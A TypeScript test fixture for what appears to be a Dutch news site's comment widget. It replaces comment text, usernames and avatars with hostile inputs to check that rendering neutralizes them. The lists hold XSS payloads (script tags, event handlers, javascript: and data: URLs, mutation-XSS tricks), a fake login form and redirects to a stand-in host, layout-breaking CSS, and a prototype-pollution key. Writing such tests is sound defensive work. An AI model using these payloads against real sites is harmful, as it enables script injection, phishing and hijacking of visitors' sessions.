import type { CommentResource } from './comment-resources.ts';

/**
 * Markup that a careless host could let through. Each tries to run `document.title = 'gekraakt'`,
 * to leave the page, or to break the layout; none may succeed.
 */
export const hostileMarkup = [
  `<script>document.title='gekraakt'</script>Gewone tekst eromheen.`,
  `<img src=x onerror="document.title='gekraakt'">Plaatje`,
  `<svg onload="document.title='gekraakt'"><circle r="9"/></svg>`,
  `<svg><animate onbegin="document.title='gekraakt'" attributeName="x" dur="1s"></svg>`,
  `<a href="javascript:document.title='gekraakt'">klik hier</a>`,
  `<a href="&#106;avascript:document.title='gekraakt'">of hier</a>`,
  `<a href="java\tscript:document.title='gekraakt'">of anders hier</a>`,
  `<a href="data:text/html,<script>parent.document.title='gekraakt'</script>">gegevens</a>`,
  `<iframe srcdoc="<script>parent.document.title='gekraakt'</script>"></iframe>`,
  `<object data="javascript:document.title='gekraakt'"></object>`,
  `<form action="https://boef.example"><input name="wachtwoord"><button>Inloggen</button></form>`,
  `<div data-widget="comments" data-news-id="42">geplant eiland</div>`,
  `<div id="islands-config">{"apiBase":"https://boef.example"}</div>`,
  `<p id="comments" name="comments" class="site-header">vermomd</p>`,
  `<p style="position:fixed;inset:0;background:red;z-index:99999">alles dicht</p>`,
  `<style>body{display:none}</style>Verdwijnt de pagina?`,
  `<link rel="stylesheet" href="https://boef.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://boef.example">Weg ermee`,
  `<base href="https://boef.example/"><a href="/profiel/piet">profiel</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='gekraakt'&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=document.title='gekraakt'>">`,
  `<details open ontoggle="document.title='gekraakt'"><summary>Lees meer</summary></details>`,
  `<input autofocus onfocus="document.title='gekraakt'">`,
  `<video><source onerror="document.title='gekraakt'"></video>`,
  `</article></section></div></main>Uitgebroken`,
  `<a href="//boef.example" target="_top" rel="opener">zonder protocol</a>`,
  `<template><img src=x onerror="document.title='gekraakt'"></template>`,
  `<button popovertarget="x" formaction="javascript:document.title='gekraakt'">knop</button>`,
  `<p>${'Z'.repeat(600)}</p>`,
  `<p>\u202Enegorrev tskeT\u202C en Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034Fa\u0334\u0319l\u0327\u032Eg\u0361\u030Bo</p>`,
];

const names = [
  `<img src=x onerror=alert(1)>`,
  `"><script>alert(1)</script>`,
  `\u202Eeninnas`,
  `../../uitloggen?x=`,
  `W${'i'.repeat(180)}llem`,
  `javascript:alert(1)`,
];

const avatars = [
  `javascript:alert(1)`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `x" onerror="alert(1)`,
  `//boef.example/a.png`,
];

/** Replacements for a comment's fields; `at` picks which, so that a page shows them all. */
export function hostile(comment: CommentResource, at: number): object {
  const markup = hostileMarkup[at % hostileMarkup.length];
  return {
    comment: markup,
    original_text: markup,
    reactions: { ...comment.reactions, '<b>boos</b>': 2, __proto__x: 1 },
    commentator: comment.commentator && {
      ...comment.commentator,
      username: names[at % names.length],
      initials: '<i>',
      avatar: avatars[at % avatars.length],
    },
  };
}
